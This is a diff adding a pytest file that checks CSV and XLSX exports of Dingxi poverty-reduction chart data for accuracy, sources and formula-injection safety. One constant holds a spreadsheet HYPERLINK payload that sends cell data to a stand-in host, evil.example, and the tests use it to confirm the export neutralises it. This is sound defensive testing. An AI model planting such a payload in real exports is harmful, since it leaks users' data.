@@ -1,0 +1,106 @@
+"""Data export: CSV and XLSX read back equal to the chart's points, with sources; formulas come out inert."""
+
+from __future__ import annotations
+
+import csv
+import io
+import zipfile
+
+import openpyxl
+import pandas as pd
+import pytest
+from sqlalchemy import update
+
+from db.models import Figure
+from db.session import make_engine, session_factory
+from export.chart_data import build_chart
+from export.tables import csv_bytes, neutralise, xlsx_bytes
+
+DINGXI, REDUCED = "621100", "poor_population_reduced"
+INJECTED = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
+
+
+@pytest.fixture(scope="module")
+def dingxi(seed_db_url):
+    with session_factory(make_engine(seed_db_url))() as session:
+        return build_chart(session, DINGXI, REDUCED)
+
+
+def figure_points(export) -> set[tuple[str, int, float]]:
+    """(series label, year, value) for every bar the chart draws."""
+    return {
+        (trace["name"], int(x), float(y))
+        for trace in export.figure["data"]
+        for x, y in zip(trace["x"], trace["y"], strict=True)
+    }
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+86 10", "'+86 10"),
+        ("-2", "'-2"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("定西市 = 28.52万", "定西市 = 28.52万"),
+        (-2.5, -2.5),
+        (None, None),
+    ],
+)
+def test_neutralise_prefixes_only_text_a_spreadsheet_would_run(value, expected):
+    assert neutralise(value) == expected
+
+
+def test_csv_has_a_bom_and_reads_back_equal_to_the_chart(dingxi):
+    data = csv_bytes(dingxi.rows)
+    assert data.startswith(b"\xef\xbb\xbf")
+    frame = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype={"地区代码 region code": str})
+    read = {(r["系列 series"], int(r["年份 Year"]), float(r["数值 Value"])) for _, r in frame.iterrows()}
+    assert read == figure_points(dingxi)
+    assert len(frame) == sum(len(trace["x"]) for trace in dingxi.figure["data"])
+    assert set(frame["地区代码 region code"]) == {DINGXI}
+    assert "定西市人民代表大会常务委员会关于深入推进精准扶贫工作的决定" in set(frame["计划版本 Plan version"])
+    assert frame["来源 Source"].str.len().min() > 0, "every row names its source"
+    assert frame["数据编号 figure ids"].astype(str).str.len().min() > 0
+
+
+def test_xlsx_reads_back_equal_to_the_chart_with_formats_and_a_sources_sheet(dingxi):
+    wb = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(dingxi)))
+    assert wb.sheetnames == ["数据 Data", "来源 Sources", "说明 About"]
+    data = wb["数据 Data"]
+    head = [c.value for c in data[1]]
+    col = {name: head.index(name) for name in ("系列 series", "年份 Year", "数值 Value", "计划版本 Plan version")}
+    rows = list(data.iter_rows(min_row=2))
+    read = {(r[col["系列 series"]].value, r[col["年份 Year"]].value, float(r[col["数值 Value"]].value)) for r in rows}
+    assert read == figure_points(dingxi)
+    assert all(r[col["数值 Value"]].number_format == "#,##0" for r in rows)
+    assert all(isinstance(r[col["数值 Value"]].value, int | float) for r in rows)
+    sources = wb["来源 Sources"]
+    quotes = [c.value for c in sources["L"][1:]]
+    assert len(quotes) == len(dingxi.sources) and all(quotes)
+    about = {r[0].value: r[1].value for r in wb["说明 About"].iter_rows()}
+    assert about["在线查看 view online"].endswith("/region/621100?indicator=poor_population_reduced")
+    assert about["数据截至 data as of"] != "—"
+
+
+def test_injected_hyperlink_note_comes_out_inert(db_url):
+    sessions = session_factory(make_engine(db_url))
+    with sessions() as session, session.begin():
+        chart = build_chart(session, DINGXI, REDUCED)
+        first = int(chart.rows[0]["figure_ids"].split(",")[0])
+        session.execute(update(Figure).where(Figure.id == first).values(note=INJECTED, quote=INJECTED))
+    with sessions() as session:
+        chart = build_chart(session, DINGXI, REDUCED)
+    text = csv_bytes(chart.rows).decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert "'" + INJECTED in cells
+    assert INJECTED not in cells
+    raw = xlsx_bytes(chart)
+    with zipfile.ZipFile(io.BytesIO(raw)) as z:
+        sheets = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
+    assert "<f>" not in sheets, "no cell of the export is a formula"
+    wb = openpyxl.load_workbook(io.BytesIO(raw))
+    values = [c.value for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
+    assert "'" + INJECTED in values and INJECTED not in values
